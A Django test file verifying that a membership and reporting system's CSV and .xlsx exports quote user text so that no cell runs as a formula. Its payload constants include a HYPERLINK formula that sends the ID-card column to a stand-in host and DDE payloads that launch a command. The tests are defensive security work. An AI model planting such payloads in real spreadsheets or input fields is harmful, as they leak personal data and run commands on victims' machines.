"""No formulas out: every CSV and .xlsx the system writes stores user text as text.

Three layers, so that a new export cannot slip past:
- the helper (lib/spreadsheets.py) on its own;
- a guard over the source: nothing outside the helper writes CSV or .xlsx, and every function
  that does (through the helper) is listed in WRITERS with the test below that feeds it hostile
  data (a new export fails `test_every_writer_is_tested_with_hostile_data` until it is added);
- every export, downloaded through its page where it has one, from data whose names, titles,
  labels and notes are formula-injection payloads: no cell is a formula (except a report
  form's own computed cells), no text starts with a formula character, and the payloads are
  there, quoted.
"""

from __future__ import annotations

import ast
import csv
import datetime
import io
import re
from decimal import Decimal
from pathlib import Path

import openpyxl
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import SimpleTestCase
from django.urls import reverse
from openpyxl.cell import WriteOnlyCell

from awards.models import Award
from awards.tests import factories as award_factories
from campaigns.models import Target
from campaigns.tests.factories_plans import make_plan
from imports.models import ImportJob
from lib.spreadsheets import FORMULA_PREFIXES, SafeWorkbook, csv_writer, safe_text, set_formula, unquote
from lib.testing import BaseTestCase
from org.models import Member, Unit, UnitLevel
from reports.models import Criterion, Indicator, Report, ReportForm, ReportRequest, Section
from reports.services import reports as report_services
from reports.services import scoring as scoring_services
from reports.tests import factories_core, factories_scoring

# One payload per formula start. The first is the probe's: it sends the CCCD column (D2) away.
EQ = '=HYPERLINK("http://x.invalid/?d="&D2,"Xem hồ sơ")'
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB = "\t=1+2"
CR = "\r=1+2"
PAYLOADS = (EQ, PLUS, MINUS, AT, TAB, CR)

# A report form's computed cells are formulas the system builds from indicator codes.
SYSTEM_FORMULA = re.compile(r"=(IFERROR\()?[D0-9.+\-*/()]+(,0\))?")

ROOT = Path(settings.BASE_DIR)
HELPER = "lib/spreadsheets.py"
# Writing a spreadsheet any other way than through the helper.
FORBIDDEN = [
    re.compile(r"\bcsv\.(writer|DictWriter)\s*\("),
    re.compile(r"from\s+csv\s+import\s+[^\n]*\b(writer|DictWriter)\b"),
    re.compile(r"from\s+openpyxl\s+import\s+[^\n]*\bWorkbook\b"),
    re.compile(r"\bopenpyxl\.Workbook\s*\("),
    re.compile(r"\bopenpyxl\.(workbook|writer)\b"),
    re.compile(r"\bWriteOnlyWorksheet\b"),
    re.compile(r"\bsave_workbook\b"),
    re.compile(r"\b(xlsxwriter|pyexcel|tablib|pandas)\b"),
]
# Source that writes no file for users: tests build hostile inputs, bench builds big inputs.
# lib/loopback/ is the harness that drives a real server in tests and bench, not shipped code.
NOT_SHIPPED = (
    "/tests/",
    "/migrations/",
    "bench/",
    "lib/loopback/",
    ".venv/",
    "node_modules/",
    "staticfiles/",
)

# Every function that writes a CSV or .xlsx through the helper -> the test feeding it hostile data.
WRITERS = {
    "org.exports.members_csv_lines": "test_member_export_csv",
    "org.exports.members_xlsx_file": "test_member_export_xlsx",
    "imports.files.errors_csv": "test_import_errors_csv",
    "imports.files.errors_xlsx": "test_import_errors_xlsx",
    "imports.files.template_xlsx": "test_blank_templates",
    "imports.pledges.template_xlsx": "test_blank_templates",
    "campaigns.exports.target_progress_xlsx": "test_target_progress_export",
    "campaigns.exports.registration_list_xlsx": "test_registration_list_export",
    "reports.xlsx.form_xlsx": "test_report_form_xlsx",
    "reports.review_paper.review_data_xlsx": "test_review_data_xlsx",
    "reports.ranking_paper.ranking_xlsx": "test_ranking_export",
    "awards.exports.eligible_members_xlsx": "test_eligible_members_export",
    "awards.exports.eligible_units_xlsx": "test_eligible_units_export",
    "awards.register_exports.register_xlsx_file": "test_register_export",
    "awards.register_exports.stats_xlsx": "test_register_stats_export",
    "awards.register_exports.template_xlsx": "test_register_template",
}


def shipped_sources() -> list[tuple[str, str]]:
    out = []
    for path in sorted(ROOT.rglob("*.py")):
        rel = path.relative_to(ROOT).as_posix()
        if any(part in f"/{rel}" for part in NOT_SHIPPED) or rel.startswith((".", "var/")):
            continue
        out.append((rel, path.read_text(encoding="utf-8")))
    return out


def writer_functions() -> set[str]:
    """module.function of every top-level function (or method) that calls SafeWorkbook or csv_writer."""
    found = set()
    for rel, source in shipped_sources():
        if rel == HELPER or ("SafeWorkbook" not in source and "csv_writer" not in source):
            continue
        module = rel.removesuffix(".py").replace("/", ".")
        tree = ast.parse(source)
        for node in ast.walk(tree):
            if not isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef):
                continue
            for call in ast.walk(node):
                if isinstance(call, ast.Call):
                    name = getattr(call.func, "id", None) or getattr(call.func, "attr", None)
                    if name in ("SafeWorkbook", "csv_writer"):
                        found.add(f"{module}.{node.name}")
    return found


def xlsx_texts(test, content: bytes, *, system_formulas: bool = False) -> list[str]:
    """Every text of an .xlsx, after checking that no cell is a formula or an error and no text
    starts like one."""
    test.assertEqual(content[:2], b"PK", "not an .xlsx file")
    book = openpyxl.load_workbook(io.BytesIO(content))  # not read-only: cells keep their data type
    texts = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                where = f"{ws.title}!{cell.coordinate}"
                if cell.data_type == "f":
                    if system_formulas and SYSTEM_FORMULA.fullmatch(str(cell.value)):
                        continue
                    test.fail(f"{where} is a formula: {cell.value!r}")
                test.assertNotEqual(cell.data_type, "e", f"{where} is an error cell: {cell.value!r}")
                if isinstance(cell.value, str):
                    test.assertFalse(cell.value.startswith(FORMULA_PREFIXES), f"{where}: {cell.value!r}")
                    texts.append(cell.value)
    return texts


def csv_texts(test, content: bytes) -> list[str]:
    """Every field of a CSV, after checking that none starts like a formula."""
    texts = []
    for number, row in enumerate(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")), 1):
        for field in row:
            test.assertFalse(field.startswith(FORMULA_PREFIXES), f"line {number}: {field!r}")
            texts.append(field)
    return texts


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


class HelperTests(SimpleTestCase):
    def test_every_formula_start_is_quoted(self):
        for payload in PAYLOADS:
            with self.subTest(payload=payload):
                self.assertEqual(safe_text(payload), "'" + payload)
                self.assertEqual(unquote(safe_text(payload)), payload)

    def test_plain_text_is_left_alone(self):
        for text in ("Nguyễn Thị Thu Hà", "045190000001", "", "'quoted by the user", "a=b", "1-2"):
            self.assertEqual(safe_text(text), text)
            self.assertEqual(unquote(text), text)

    def test_control_characters_an_xlsx_cannot_hold_are_dropped(self):
        self.assertEqual(safe_text("Hà\x00\x01\x0b Nội"), "Hà Nội")
        self.assertEqual(safe_text("\x01=1+1"), "'=1+1")  # dropping them cannot uncover a formula

    def test_the_csv_writer_quotes_text_and_keeps_numbers(self):
        out = io.StringIO()
        csv_writer(out).writerows([[EQ, -5, Decimal("-1.5"), None, "- Giáo viên"]])
        self.assertEqual(
            next(csv.reader(io.StringIO(out.getvalue()))), ["'" + EQ, "-5", "-1.5", "", "'- Giáo viên"]
        )

    def test_an_ordinary_workbook_is_swept_when_saved(self):
        wb = SafeWorkbook()
        ws = wb.active
        ws["A1"] = EQ
        ws.append([PLUS, -5, datetime.date(2025, 1, 2), "#N/A"])
        ws.cell(row=3, column=1, value=AT)
        set_formula(ws["B3"], "=SUM(B2:B2)")
        out = io.BytesIO()
        wb.save(out)
        book = openpyxl.load_workbook(io.BytesIO(out.getvalue()))
        ws = book.active
        self.assertEqual((ws["A1"].value, ws["A1"].data_type), ("'" + EQ, "s"))
        self.assertEqual((ws["A2"].value, ws["B2"].value, ws["B2"].data_type), ("'" + PLUS, -5, "n"))
        self.assertEqual(ws["C2"].value.date(), datetime.date(2025, 1, 2))
        self.assertEqual((ws["D2"].value, ws["D2"].data_type), ("#N/A", "s"))
        self.assertEqual(ws["A3"].value, "'" + AT)
        self.assertEqual((ws["B3"].value, ws["B3"].data_type), ("=SUM(B2:B2)", "f"))

    def test_a_write_only_workbook_cleans_each_row(self):
        wb = SafeWorkbook(write_only=True)
        ws = wb.create_sheet("x")
        styled = WriteOnlyCell(ws, value=MINUS)
        ws.append([EQ, styled, -7, "#REF!", TAB])
        out = io.BytesIO()
        wb.save(out)
        row = next(openpyxl.load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
        self.assertEqual([c.value for c in row], ["'" + EQ, "'" + MINUS, -7, "#REF!", "'" + TAB])
        self.assertEqual([c.data_type for c in row], ["s", "s", "n", "s", "s"])
        self.assertNotIn(b"<f>", out.getvalue())

    def test_a_formula_needs_a_safe_workbook(self):
        plain = openpyxl.Workbook()  # the guard below keeps this out of shipped code
        with self.assertRaises(TypeError):
            set_formula(plain.active["A1"], "=1")


class GuardTests(SimpleTestCase):
    def test_nothing_writes_csv_or_xlsx_around_the_helper(self):
        offenders = [
            f"{rel}: {pattern.pattern}"
            for rel, source in shipped_sources()
            if rel != HELPER
            for pattern in FORBIDDEN
            if pattern.search(source)
        ]
        self.assertEqual(offenders, [], "write spreadsheets through lib.spreadsheets")

    def test_every_writer_is_tested_with_hostile_data(self):
        found = writer_functions()
        self.assertGreaterEqual(len(found), 16)
        self.assertEqual(sorted(found - set(WRITERS)), [], "add the new export to WRITERS and test it")
        self.assertEqual(sorted(set(WRITERS) - found), [], "WRITERS names a function that writes nothing")
        for test in set(WRITERS.values()):
            self.assertTrue(hasattr(HostileExportTests, test), test)


class HostileExportTests(BaseTestCase):
    """Alice (officer at Đông Hà) downloads every export of a world full of payloads."""

    @classmethod
    def setUpTestData(cls) -> None:
        super().setUpTestData()
        # Names first, so papers that keep names as they were that day keep the payloads too.
        Unit.objects.filter(pk=cls.school.pk).update(name=EQ)
        Unit.objects.filter(pk=cls.factory.pk).update(name=AT)
        Member.objects.filter(pk=cls.ha.pk).update(
            full_name=EQ, position=MINUS, ethnicity=AT, card_number=PLUS, phone=TAB
        )
        for obj in (cls.school, cls.factory, cls.ha):
            obj.refresh_from_db()
        cls.job = ImportJob.objects.create(
            unit=cls.school,
            created_by=cls.alice,
            file=SimpleUploadedFile("danh-sach.csv", b"x"),
            original_filename="danh-sach.csv",
            status=ImportJob.Status.FAILED,
            rows=2,
            error_count=2,
            errors=[
                {"row": 2, "column": "Họ và tên", "value": EQ, "message": "Sai"},
                {"row": 3, "column": CR, "value": MINUS, "message": PLUS},
            ],
        )
        cls.build_plan()
        cls.build_reports()
        cls.build_ranking()
        cls.build_awards()

    @classmethod
    def build_plan(cls) -> None:
        cls.plan = make_plan(unit=cls.dongha, by=cls.alice, issue=True, deliver_below=True)
        cls.plan.title = EQ
        cls.plan.save(update_fields=["title"])
        Target.objects.filter(plan=cls.plan).update(text=PLUS)

    @classmethod
    def build_reports(cls) -> None:
        version = factories_core.make_version(unit=cls.dongha, by=cls.alice, code="DH")
        ReportForm.objects.filter(pk=version.form_id).update(name=EQ)
        Indicator.objects.filter(version=version, code="helped").update(label=MINUS, help_text=AT)
        Section.objects.filter(version=version).update(title=PLUS)
        cls.report_request = factories_core.make_request(
            version=version,
            unit=cls.dongha,
            by=cls.alice,
            level=None,
            unit_ids=[cls.school.pk, cls.factory.pk],
        )
        ReportRequest.objects.filter(pk=cls.report_request.pk).update(title=AT, period=EQ)
        report_services.report_fill(
            request=cls.report_request,
            unit=cls.school,
            raw={**factories_core.GOOD, "note": MINUS},
            by=cls.alice,
            revision=None,
            submit=True,
        )
        cls.report = Report.objects.get(request=cls.report_request, unit=cls.school)

    @classmethod
    def build_ranking(cls) -> None:
        year = factories_scoring.YEAR
        cls.cluster = factories_scoring.make_cluster(
            unit=cls.dongha, members=[cls.school, cls.factory], name=EQ
        )
        table = factories_scoring.make_table(unit=cls.dongha, clusters=[cls.cluster])
        Criterion.objects.filter(table=table, code="c4").update(label=AT)
        c4 = table.criteria.get(code="c4")
        for unit, points in ((cls.school, "50"), (cls.factory, "40")):
            sheet = scoring_services.sheet_get_or_create(
                table=table, unit=unit, year=year, cluster=cls.cluster
            )
            scoring_services.sheet_self_assess(
                sheet=sheet, entries={c4.pk: (Decimal(points), PLUS)}, by=cls.alice
            )
            scoring_services.sheet_submit(sheet=sheet, by=cls.alice)
        scoring_services.ranking_publish(
            table=table,
            cluster=cls.cluster,
            year=year,
            decision_number=MINUS,
            decision_file=SimpleUploadedFile("qd.pdf", b"%PDF-1.4 x"),
            by=cls.alice,
        )

    @classmethod
    def build_awards(cls) -> None:
        Award.objects.filter(code="cstd-co-so").update(name=EQ)
        for y in (2023, 2024, 2025):  # eligible for the provincial title in 2025
            award_factories.record(
                "cstd-co-so", y, member=cls.ha, decision_number=MINUS, issuer_name=PLUS, note=AT, theme=TAB
            )
        award_factories.initiative(year=2024, level=UnitLevel.PROVINCE, member=cls.ha)

    def setUp(self) -> None:
        super().setUp()
        self.login(self.alice)

    def get(self, name: str, *args, **query) -> bytes:
        response = self.client.get(reverse(name, args=args), query)
        self.assertEqual(response.status_code, 200, name)
        return body(response)

    def assertQuoted(self, texts: list[str], *payloads: str) -> None:
        for payload in payloads:
            self.assertIn("'" + payload, texts)

    # -- org and imports -----------------------------------------------------------------------

    def test_member_export_csv(self):
        texts = csv_texts(self, self.get("org:member-export", format="csv"))
        self.assertQuoted(texts, EQ, MINUS, AT, PLUS, TAB)
        self.assertIn(self.ha.cccd, texts)

    def test_member_export_xlsx(self):
        texts = xlsx_texts(self, self.get("org:member-export", format="xlsx"))
        self.assertQuoted(texts, EQ, MINUS, AT, PLUS, TAB)

    def test_import_errors_csv(self):
        self.assertQuoted(
            csv_texts(self, self.get("imports:job-errors", self.job.pk, "csv")), EQ, MINUS, PLUS, CR
        )

    def test_import_errors_xlsx(self):
        self.assertQuoted(
            xlsx_texts(self, self.get("imports:job-errors", self.job.pk, "xlsx")), EQ, MINUS, PLUS, CR
        )

    def test_blank_templates(self):
        for name in ("imports:template", "campaigns:pledge-template"):
            with self.subTest(name):
                self.assertTrue(xlsx_texts(self, self.get(name)))

    # -- campaigns -----------------------------------------------------------------------------

    def test_target_progress_export(self):
        texts = xlsx_texts(self, self.get("campaigns:target-export", self.plan.pk))
        self.assertQuoted(texts, PLUS, EQ, AT)

    def test_registration_list_export(self):
        self.assertQuoted(xlsx_texts(self, self.get("campaigns:registration-export", self.plan.pk)), EQ, AT)

    # -- reports -------------------------------------------------------------------------------

    def test_report_form_xlsx(self):
        content = self.get("reports:report-xlsx", self.report.pk)
        texts = xlsx_texts(self, content, system_formulas=True)
        self.assertQuoted(texts, MINUS, PLUS, EQ)  # the note's value, a section title, the period
        self.assertIn("'" + MINUS + " (*)", texts)  # a required indicator's label
        book = openpyxl.load_workbook(io.BytesIO(content))
        formulas = [c for row in book.active.iter_rows() for c in row if c.data_type == "f"]
        self.assertEqual(len(formulas), 1)  # per_head = amount / helped, the system's own formula

    def test_quoted_text_of_a_report_form_comes_back_as_it_was(self):
        report_services.report_fill(
            request=self.report_request,
            unit=self.factory,
            raw={**factories_core.GOOD, "note": MINUS},
            by=self.alice,
            revision=None,
            submit=False,
        )
        kwargs = {"request_pk": self.report_request.pk, "unit_pk": self.factory.pk}
        content = self.client.get(reverse("reports:report-xlsx", kwargs=kwargs)).content
        self.assertIn("'" + MINUS, xlsx_texts(self, content, system_formulas=True))
        upload = SimpleUploadedFile("bao-cao.xlsx", content)
        r = self.client.post(reverse("reports:report-xlsx-upload", kwargs=kwargs), {"file": upload})
        self.assertEqual(r.status_code, 302)
        report = Report.objects.get(request=self.report_request, unit=self.factory)
        self.assertEqual(report.versions.count(), 2)
        self.assertEqual(report_services.report_values(report)["note"], MINUS)

    def test_review_data_xlsx(self):
        content = self.get("reports:review-xlsx", self.report_request.pk)
        self.assertQuoted(xlsx_texts(self, content), MINUS, EQ, AT)

    def test_ranking_export(self):
        content = self.get("reports:ranking-export", self.cluster.pk, year=factories_scoring.YEAR)
        self.assertQuoted(xlsx_texts(self, content), EQ, AT)

    # -- awards --------------------------------------------------------------------------------

    def eligible(self, who: str) -> bytes:
        award = Award.objects.get(code="cstd-cap-tinh")
        return self.get("awards:eligible-export", award=award.pk, unit=self.dongha.pk, year=2025, who=who)

    def test_eligible_members_export(self):
        self.assertQuoted(xlsx_texts(self, self.eligible("members")), EQ, MINUS)

    def test_eligible_units_export(self):
        from awards.exports import eligible_units_xlsx

        award = Award.objects.get(code="cstd-cap-tinh")
        out = eligible_units_xlsx(
            units=Unit.objects.filter(pk__in=[self.school.pk, self.factory.pk]).order_by("path"),
            award=award,
            unit=self.dongha,
            year=2025,
        )
        self.assertQuoted(xlsx_texts(self, out.read()), EQ, AT)

    def test_register_export(self):
        texts = xlsx_texts(self, self.get("awards:register-export"))
        self.assertQuoted(texts, EQ, MINUS, PLUS, AT, TAB)

    def test_register_stats_export(self):
        self.assertQuoted(xlsx_texts(self, self.get("awards:register-stats-export")), EQ)

    def test_register_template(self):
        self.assertQuoted(xlsx_texts(self, self.get("awards:register-template")), EQ)
